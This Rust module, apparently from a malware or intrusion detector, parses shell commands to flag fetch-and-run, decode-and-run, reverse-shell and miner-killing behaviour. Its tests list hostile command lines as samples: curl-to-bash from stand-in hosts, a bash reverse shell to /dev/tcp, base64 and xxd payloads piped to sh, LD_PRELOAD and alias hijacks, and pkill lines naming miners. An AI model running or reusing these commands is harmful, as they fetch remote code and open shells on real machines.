//! What a command comes to: the programs and scripts it runs behind shells and wrappers, and what is odd in its text.

use super::shell::{self, Command};
use super::vocabulary::{
    FETCHERS, INTERPRETERS, KEYWORDS, ORDINARY, RIVALS, SHELLS, TAKE_ADDRESSES, WRAPPERS,
};
use std::collections::{BTreeMap, BTreeSet};

/// Deepest nesting of a text inside a text (`sh -c`).
const DEPTH: u32 = 4;
/// Most files, assignments and names kept.
const MOST: usize = 64;
/// Longest text that is read.
const TEXT: usize = 256 * 1024;
/// Bytes read over all texts inside texts and all variables filled in: `A='eval $A;eval $A'` would never end.
const ALL: usize = 4 * TEXT;

/// How a file is run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Runs {
    /// By itself.
    Program,
    /// A shell reads it.
    ShellScript,
    /// Another interpreter reads it.
    OtherScript,
}

/// A file that a command runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Named {
    /// As written, joined to the folder that the text changed to.
    pub path: String,
    /// How it is run.
    pub how: Runs,
}

/// What a text comes to.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Reading {
    /// What it runs, in order, at most 64.
    pub runs: Vec<Named>,
    /// What it puts in the environment.
    pub sets: Vec<(String, String)>,
    /// Files whose presence it tests.
    pub tests: Vec<String>,
    /// It fetches something from the network and hands it to an interpreter.
    pub fetches: bool,
    /// It decodes something and hands it to an interpreter.
    pub decodes: bool,
    /// It ends at least three miners by name.
    pub kills: bool,
}

/// Reads text that a shell runs.
#[must_use]
pub fn shell_text(text: &str) -> Reading {
    let mut reader = Reader::default();
    reader.text(text, 0);
    reader.finish(text)
}

/// Reads a command that no shell sees: its words.
#[must_use]
pub fn words(words: &[String]) -> Reading {
    let mut reader = Reader::default();
    let command = Command { words: words.to_vec(), ..Command::default() };
    reader.list(&[command], 0);
    reader.finish(&words.join(" "))
}

/// Reads program text of an interpreter that is no shell (Python, Perl, PHP …).
#[must_use]
pub fn program_text(text: &str) -> Reading {
    let mut reader = Reader::default();
    let text = cut(text);
    reader.program(text);
    reader.finish(text)
}

fn cut(text: &str) -> &str {
    let mut end = text.len().min(TEXT);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// The last part of a path.
pub(super) fn base(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// What one command does, as far as others of its pipeline depend on it.
#[derive(Debug, Clone, Default)]
struct Does {
    fetches: bool,
    decodes: bool,
    /// It runs what it reads, or what stands among its words.
    interprets: bool,
    /// Where it puts what it fetched or decoded.
    puts: Vec<String>,
    /// Files it runs.
    runs: Vec<String>,
}

#[derive(Default)]
struct Reader {
    reading: Reading,
    folder: Option<String>,
    /// Text that a shell runs before each prompt.
    prompts: Vec<String>,
    /// Bytes read so far.
    read: usize,
    variables: BTreeMap<String, String>,
}

impl Reader {
    fn finish(mut self, text: &str) -> Reading {
        for prompt in std::mem::take(&mut self.prompts) {
            self.text(&prompt, 1);
        }
        self.reading.kills = kills_rivals(cut(text));
        self.reading
    }

    fn text(&mut self, text: &str, depth: u32) {
        self.read = self.read.saturating_add(cut(text).len());
        if self.read > ALL {
            return;
        }
        let commands = shell::commands(cut(text));
        self.list(&commands, depth);
    }

    fn list(&mut self, commands: &[Command], depth: u32) {
        let mut does: Vec<Does> = Vec::with_capacity(commands.len());
        let mut children = vec![Vec::new(); commands.len()];
        for (at, command) in commands.iter().enumerate() {
            if let Some(parent) = command.within.and_then(|parent| children.get_mut(parent)) {
                parent.push(at);
            }
            does.push(self.command(command, depth));
        }
        // A substitution alone is a command whose words are what came out of it.
        for (at, command) in commands.iter().enumerate() {
            let bare = command.words.iter().all(|word| word.is_empty() || KEYWORDS.contains(&word.as_str()));
            does[at].interprets |= bare && !children[at].is_empty();
        }
        for (at, one) in does.iter().enumerate().filter(|(_, one)| one.interprets) {
            let (fetches, decodes) = fed(at, one, commands, &children, &does);
            self.reading.fetches |= fetches;
            self.reading.decodes |= decodes;
        }
        self.put_and_run(&does);
    }

    /// What was fetched or decoded into a file that is run later in the same text.
    fn put_and_run(&mut self, does: &[Does]) {
        let (mut fetched, mut decoded) = (BTreeSet::new(), BTreeSet::new());
        for one in does {
            self.reading.fetches |= one.runs.iter().any(|path| fetched.contains(base(path)));
            self.reading.decodes |= one.runs.iter().any(|path| decoded.contains(base(path)));
            let names = one.puts.iter().map(|path| base(path)).filter(|name| !name.is_empty());
            if one.fetches {
                fetched.extend(names);
            } else if one.decodes {
                decoded.extend(names);
            }
        }
    }

    fn command(&mut self, command: &Command, depth: u32) -> Does {
        let words: Vec<String> = command.words.iter().map(|word| self.expanded(word)).collect();
        let mut does = Does { puts: command.writes.clone(), ..Does::default() };
        let network = |file: &String| file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/");
        does.fetches = command.writes.iter().chain(&command.from).any(network);
        let mut rest = words.as_slice();
        for _ in 0..16 {
            let Some((first, after)) = rest.split_first() else { break };
            if let Some((name, value)) = assignment(first) {
                self.set(name, value);
                rest = after;
            } else if KEYWORDS.contains(&first.as_str()) || first.is_empty() {
                rest = after;
            } else if let Some(inner) = self.unwrapped(first, after, &mut does, depth) {
                rest = inner;
            } else {
                self.plain(first, after, &command.from, &mut does, depth);
                break;
            }
        }
        does
    }

    /// The words behind a program that runs another one.
    fn unwrapped<'a>(
        &mut self,
        first: &str,
        after: &'a [String],
        does: &mut Does,
        depth: u32,
    ) -> Option<&'a [String]> {
        let name = base(first);
        if name.starts_with("ld-linux") || name.starts_with("ld-musl") {
            return Some(after);
        }
        let wrapper = WRAPPERS.iter().find(|wrapper| wrapper.name == name)?;
        let (mut rest, mut skip) = (after, wrapper.skip);
        while let Some((word, next)) = rest.split_first() {
            let takes_text =
                matches!(name, "su" | "runuser" | "flock") && matches!(word.as_str(), "-c" | "--command");
            let names_program =
                name == "start-stop-daemon" && matches!(word.as_str(), "-x" | "--exec" | "-a" | "--startas");
            if takes_text {
                if let Some(text) = next.first()
                    && depth < DEPTH
                {
                    self.text(text, depth + 1);
                }
                return Some(&[]);
            } else if names_program {
                return Some(next);
            } else if let Some(program) =
                word.strip_prefix("--exec=").or_else(|| word.strip_prefix("--startas="))
            {
                self.run(program, Runs::Program, does);
                return Some(&[]);
            } else if name == "env" && assignment(word).is_some() {
                if let Some((variable, value)) = assignment(word) {
                    self.set(variable, value);
                }
                rest = next;
            } else if word == "--" || word == "-" || (name == "su" && !word.starts_with('-')) {
                rest = next;
            } else if word.starts_with('-') && word.len() > 1 {
                let takes = wrapper.values.contains(&word.as_str());
                rest = next.get(usize::from(takes)..).unwrap_or_default();
            } else if skip > 0 {
                skip -= 1;
                rest = next;
            } else {
                return Some(rest);
            }
        }
        Some(&[])
    }

    /// A command that is no wrapper.
    fn plain(&mut self, first: &str, after: &[String], from: &[String], does: &mut Does, depth: u32) {
        let name = base(first);
        if SHELLS.contains(&name) {
            self.shell(after, from, does, depth);
        } else if let Some((_, options)) = INTERPRETERS.iter().find(|(begins, _)| is_version_of(name, begins))
        {
            self.interpreter(options, after, from, does);
        } else if matches!(name, "." | "source") {
            match after.first() {
                Some(script) if !script.is_empty() && !script.starts_with("/dev/") => {
                    self.run(script, Runs::ShellScript, does);
                }
                _ => does.interprets = true,
            }
        } else if name == "eval" {
            does.interprets = true;
            if depth < DEPTH {
                self.text(&after.join(" "), depth + 1);
            }
        } else if name == "cd" {
            if let Some(folder) = after.iter().find(|word| !word.starts_with('-')) {
                self.folder = Some(self.joined(folder));
            }
        } else if matches!(name, "[" | "[[" | "test") {
            let paths = after.iter().filter(|word| word.contains('/'));
            self.reading.tests.extend(paths.take(MOST).cloned());
        } else if name == "alias" && depth < DEPTH {
            for (_, text) in after.iter().filter_map(|word| assignment(word)) {
                self.text(text, depth + 1);
            }
        } else if name == "export" || name == "declare" {
            for (variable, value) in after.iter().filter_map(|word| assignment(word)) {
                self.set(variable, value);
            }
        } else {
            transfers(name, after, does);
            let usual = !first.contains('/')
                || ["/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/"]
                    .iter()
                    .any(|folder| first.strip_prefix(folder).is_some_and(|rest| !rest.contains('/')));
            if !(usual && ORDINARY.contains(&name)) {
                self.run(first, Runs::Program, does);
            }
        }
    }

    fn shell(&mut self, after: &[String], from: &[String], does: &mut Does, depth: u32) {
        let mut rest = after;
        while let Some((word, next)) = rest.split_first() {
            if word == "--rcfile" || word == "--init-file" || word == "-o" || word == "+o" {
                rest = next.get(1..).unwrap_or_default();
            } else if word.starts_with('-') && !word.starts_with("--") && word.contains('c') {
                // What stands here may have come out of a substitution.
                does.interprets = true;
                if let Some(text) = next.first()
                    && depth < DEPTH
                {
                    self.text(text, depth + 1);
                }
                return;
            } else if word == "-s" {
                // What follows are arguments of what it reads.
                break;
            } else if word.starts_with('-') || word.starts_with('+') {
                rest = next;
            } else if word.is_empty() || word.starts_with("/dev/") {
                break;
            } else {
                self.run(word, Runs::ShellScript, does);
                return;
            }
        }
        does.interprets = true;
        for script in from {
            self.run(script, Runs::ShellScript, does);
        }
    }

    fn interpreter(&mut self, options: &[&str], after: &[String], from: &[String], does: &mut Does) {
        let mut rest = after;
        while let Some((word, next)) = rest.split_first() {
            let takes_text = options.iter().any(|option| {
                word == option
                    || (word.starts_with('-')
                        && !word.starts_with("--")
                        && word.len() <= 6
                        && word.ends_with(&option[1..]))
            });
            if takes_text {
                does.interprets = true;
                if let Some(text) = next.first() {
                    self.program(text);
                    does.decodes |= DECODING.iter().any(|word| text.contains(word));
                    does.fetches |= FETCHING.iter().any(|word| text.contains(word));
                }
                return;
            } else if word == "-m" {
                return;
            } else if matches!(word.as_str(), "-jar" | "-f") {
                rest = next;
            } else if word == "-" || word.is_empty() || word.starts_with("/dev/") {
                break;
            } else if matches!(word.as_str(), "-W" | "-X" | "-d" | "-cp" | "-I") {
                rest = next.get(1..).unwrap_or_default();
            } else if word.starts_with('-') {
                rest = next;
            } else {
                self.run(word, Runs::OtherScript, does);
                return;
            }
        }
        does.interprets = true;
        for script in from {
            self.run(script, Runs::OtherScript, does);
        }
    }

    fn program(&mut self, text: &str) {
        let runs = RUNNING.iter().any(|word| text.contains(word));
        self.reading.decodes |= runs && DECODING.iter().any(|word| text.contains(word));
        self.reading.fetches |= runs && FETCHING.iter().any(|word| text.contains(word));
    }

    fn run(&mut self, path: &str, how: Runs, does: &mut Does) {
        if path.is_empty() {
            return;
        }
        let path =
            if path.contains('/') || how != Runs::Program { self.joined(path) } else { path.to_owned() };
        does.runs.push(path.clone());
        let named = Named { path, how };
        if self.reading.runs.len() < MOST && !self.reading.runs.contains(&named) {
            self.reading.runs.push(named);
        }
    }

    fn set(&mut self, name: &str, value: &str) {
        if name == "PROMPT_COMMAND" && self.prompts.len() < 8 {
            self.prompts.push(value.to_owned());
        }
        if self.reading.sets.len() < MOST {
            self.reading.sets.push((name.to_owned(), value.to_owned()));
        }
        if self.variables.len() < MOST && value.len() <= 4096 {
            self.variables.insert(name.to_owned(), value.to_owned());
        }
    }

    /// A path in the folder that the text changed to.
    fn joined(&self, path: &str) -> String {
        match &self.folder {
            Some(folder) if !path.starts_with(['/', '~', '$']) => {
                format!("{}/{}", folder.trim_end_matches('/'), path.trim_start_matches("./"))
            }
            _ => path.to_owned(),
        }
    }

    /// A word with the variables that the text itself has set.
    fn expanded(&mut self, word: &str) -> String {
        if self.variables.is_empty() || !word.contains('$') || self.read > ALL {
            return word.to_owned();
        }
        let mut parts = word.split('$');
        let mut out = parts.next().unwrap_or_default().to_owned();
        for part in parts {
            let braced = part.strip_prefix('{').and_then(|rest| rest.split_once('}'));
            let (name, rest) = braced.unwrap_or_else(|| {
                let end =
                    part.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_').count();
                part.split_at(end)
            });
            match self.variables.get(name) {
                Some(value) if out.len() + value.len() <= 8192 => {
                    out.push_str(value);
                    out.push_str(rest);
                }
                _ => {
                    out.push('$');
                    out.push_str(part);
                }
            }
        }
        self.read = self.read.saturating_add(out.len());
        out
    }
}

/// Whether what a command interprets was fetched or decoded: by those whose output it reads or holds, at any remove.
fn fed(at: usize, one: &Does, commands: &[Command], children: &[Vec<usize>], does: &[Does]) -> (bool, bool) {
    let (mut fetches, mut decodes) = (one.fetches, false);
    let mut seen = BTreeSet::from([at]);
    let mut left = vec![at];
    while let Some(now) = left.pop() {
        let read = commands[now].reads.map_or(0..0, |(first, last)| first..last.saturating_add(1));
        let sources = children[now].iter().copied().chain(read);
        for source in sources.filter(|source| *source < does.len()) {
            if seen.insert(source) {
                fetches |= does[source].fetches;
                decodes |= does[source].decodes;
                left.push(source);
            }
        }
    }
    (fetches, decodes)
}

/// Whether a command fetches or decodes, and where to.
fn transfers(name: &str, after: &[String], does: &mut Does) {
    let address =
        |word: &String| ["http://", "https://", "ftp://"].iter().any(|scheme| word.contains(scheme));
    let fetcher = FETCHERS.contains(&name);
    let renamed = !TAKE_ADDRESSES.contains(&name) && after.iter().any(address);
    does.fetches |= fetcher || renamed;
    let has = |options: &[&str]| after.iter().any(|word| options.contains(&word.as_str()));
    let escapes = || after.iter().any(|word| word.matches("\\x").count() >= 4);
    does.decodes |= match name {
        "base64" | "base32" => has(&["-d", "-D", "--decode", "-di", "-id"]),
        "openssl" => has(&["-d"]),
        "xxd" => after.iter().any(|word| word.starts_with('-') && word.contains('r')),
        "uudecode" => true,
        "echo" | "printf" => escapes(),
        _ => false,
    };
    if !does.fetches {
        return;
    }
    let mut words = after.iter().peekable();
    while let Some(word) = words.next() {
        if let Some(file) = word.strip_prefix("--output-document=").or_else(|| word.strip_prefix("--output="))
        {
            does.puts.push(file.to_owned());
        } else if matches!(word.as_str(), "--output" | "--output-document") || is_output_option(name, word) {
            does.puts.extend(words.peek().map(|file| (*file).clone()));
        } else if address(word) {
            let path = word.split(['?', '#']).next().unwrap_or_default();
            does.puts.push(base(path).to_owned());
        }
    }
}

/// `-o`, `-sSLo` of curl; `-O`, `-qO` of wget.
fn is_output_option(name: &str, word: &str) -> bool {
    let last = if name == "wget" { 'O' } else { 'o' };
    word.starts_with('-') && !word.starts_with("--") && word.ends_with(last)
}

/// `NAME=value`.
fn assignment(word: &str) -> Option<(&str, &str)> {
    let (name, value) = word.split_once('=')?;
    let valid = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        && name.bytes().next().is_some_and(|byte| !byte.is_ascii_digit());
    valid.then_some((name, value))
}

/// `python3.11` is a version of `python`.
fn is_version_of(name: &str, begins: &str) -> bool {
    let rest = name.strip_prefix(begins);
    rest.is_some_and(|rest| rest.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.') || rest == "js")
}

/// Words of program text that decode, fetch and run.
const DECODING: [&str; 8] = [
    "b64decode",
    "base64_decode",
    "decode_base64",
    "fromhex",
    "unhexlify",
    "zlib.decompress",
    "gzinflate",
    "unpack(",
];
const FETCHING: [&str; 7] = [
    "urlopen",
    "urlretrieve",
    "requests.get",
    "LWP::",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "http.get(",
];
const RUNNING: [&str; 9] =
    ["exec(", "eval(", "eval ", "os.system", "subprocess", "popen", "Popen", "system(", "passthru("];

/// Whether a text ends at least three miners by their names.
fn kills_rivals(text: &str) -> bool {
    let mut named: BTreeSet<&str> = BTreeSet::new();
    for line in text.lines().filter(|line| line.contains("kill")) {
        let line = line.to_ascii_lowercase();
        named.extend(RIVALS.iter().filter(|name| line.contains(**name)));
        if named.len() >= 3 {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn runs(text: &str) -> Vec<String> {
        shell_text(text).runs.into_iter().map(|named| named.path).collect()
    }

    /// What each comes to was derived by hand from the manuals of the programs.
    #[test]
    fn behind_shells_and_wrappers() {
        for (text, expected) in [
            ("/opt/a.sh", &["/opt/a.sh"][..]),
            ("sh -c 'exec /opt/a -x'", &["/opt/a"]),
            ("nohup setsid /tmp/.x/a >/dev/null 2>&1 &", &["/tmp/.x/a"]),
            ("sudo -u www env A=b nice -n 19 /opt/a b", &["/opt/a"]),
            ("bash -lc \"cd /opt/x && ./run.sh\"", &["/opt/x/run.sh"]),
            ("python3.11 -u /opt/a.py -c b", &["/opt/a.py"]),
            ("cd /opt/x; python main.py", &["/opt/x/main.py"]),
            ("[ -x /usr/sbin/a ] && /usr/sbin/a --all", &["/usr/sbin/a"]),
            ("test -e /run/x || flock -n /run/l /opt/a", &["/opt/a"]),
            ("flock /run/l -c '/opt/a b'", &["/opt/a"]),
            ("su - app -c '/opt/a; sleep 1'", &["/opt/a"]),
            ("X=/var/tmp/k; chmod +x $X; ${X} -B", &["/var/tmp/k"]),
            ("if true; then . /etc/a.sh; fi", &["/etc/a.sh"]),
            ("exec -a '[kworker/0:1]' /dev/shm/k", &["/dev/shm/k"]),
            ("start-stop-daemon --start --pidfile /run/p --exec /opt/a -- -b", &["/opt/a"]),
            ("/bin/sleep 3; curl -s https://a.example/ping >/dev/null", &[]),
            ("timeout 5 perl /opt/a.pl", &["/opt/a.pl"]),
            ("php -f /var/www/a.php", &["/var/www/a.php"]),
            ("/lib64/ld-linux-x86-64.so.2 /tmp/a", &["/tmp/a"]),
            ("xmrig -o a", &["xmrig"]),
            ("sh < /opt/a", &["/opt/a"]),
        ] {
            assert_eq!(runs(text), expected, "{text}");
        }
    }

    #[test]
    fn what_is_fetched_or_decoded_and_run() {
        for (text, expected) in [
            ("curl -fsSL http://192.0.2.1/a.sh | sh", (true, false)),
            ("(curl -s http://a.example/x||wget -q -O- http://a.example/x)|bash -s 1", (true, false)),
            ("wget -qO /tmp/a http://a.example/b && chmod +x /tmp/a && /tmp/a", (true, false)),
            ("cd /tmp; wget http://a.example/b/c.sh; sh c.sh", (true, false)),
            ("sh -c \"$(curl -fsSL https://a.example/install.sh)\"", (true, false)),
            ("bash <(wget -qO- a.example/x)", (true, false)),
            ("eval \"$(wget -q -O - http://a.example)\"", (true, false)),
            ("cdl http://a.example/x | sudo -E bash", (true, false)),
            ("`curl a.example/x`", (true, false)),
            (
                "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://a.example\").read())'",
                (true, false),
            ),
            ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", (true, false)),
            ("echo ZWNobyBoaQo= | base64 -d | bash", (false, true)),
            ("sh -c \"$(echo 6563686f | xxd -r -p)\"", (false, true)),
            ("python -c 'import base64;exec(base64.b64decode(\"aGk=\"))'", (false, true)),
            ("base64 --decode /opt/a > /tmp/b; sh /tmp/b", (false, true)),
            ("echo x | openssl enc -d -aes-256-cbc -k y | sh", (false, true)),
            // What looks like it.
            ("curl -fsS https://a.example/ping > /dev/null", (false, false)),
            ("wget -q -O - https://a.example/wp-cron.php", (false, false)),
            ("curl -s https://a.example/list | grep -v x > /etc/blocklist", (false, false)),
            ("echo aGk= | base64 -d > /etc/key", (false, false)),
            ("git pull https://a.example/x && sh build.sh", (false, false)),
            ("/opt/a --url https://a.example/x && bash /opt/b.sh", (false, false)),
            ("cat /opt/a | sh", (false, false)),
        ] {
            let reading = shell_text(text);
            assert_eq!((reading.fetches, reading.decodes), expected, "{text}");
        }
    }

    #[test]
    fn rivals_are_a_list_of_three() {
        assert!(shell_text("pkill -9 xmrig\nps aux|grep kinsing|xargs kill\nkillall minerd").kills);
        assert!(!shell_text("pkill -9 xmrig; pkill kinsing").kills);
        assert!(!shell_text("grep xmrig a\ngrep kinsing a\ngrep minerd a").kills, "nothing is ended");
    }

    #[test]
    fn texts_inside_texts_come_to_an_end() {
        let again = "eval $A;".repeat(500);
        for text in [
            format!("A='{again}'; {again}"),
            format!("A='{}'; {}", "x".repeat(4000), "y $A $A $A\n".repeat(20_000)),
            format!("alias a='{}'", "alias a=\\'b\\';".repeat(9000)),
            "sh -c \"".repeat(9000),
        ] {
            assert!(shell_text(&text).runs.len() <= MOST);
        }
    }

    #[test]
    fn what_is_set() {
        assert_eq!(shell_text("LD_PRELOAD=/a.so /b").sets, [("LD_PRELOAD".into(), "/a.so".into())]);
        assert_eq!(shell_text("env LD_PRELOAD=/a.so /b").sets.len(), 1);
        assert_eq!(shell_text("export LD_PRELOAD=/a.so").sets.len(), 1);
        assert_eq!(runs("PROMPT_COMMAND='/tmp/a -b; history -a'"), ["/tmp/a"]);
        assert_eq!(runs("alias sudo='/opt/a'"), ["/opt/a"]);
        assert_eq!(runs("alias ll='ls -l'"), [""; 0]);
    }
}
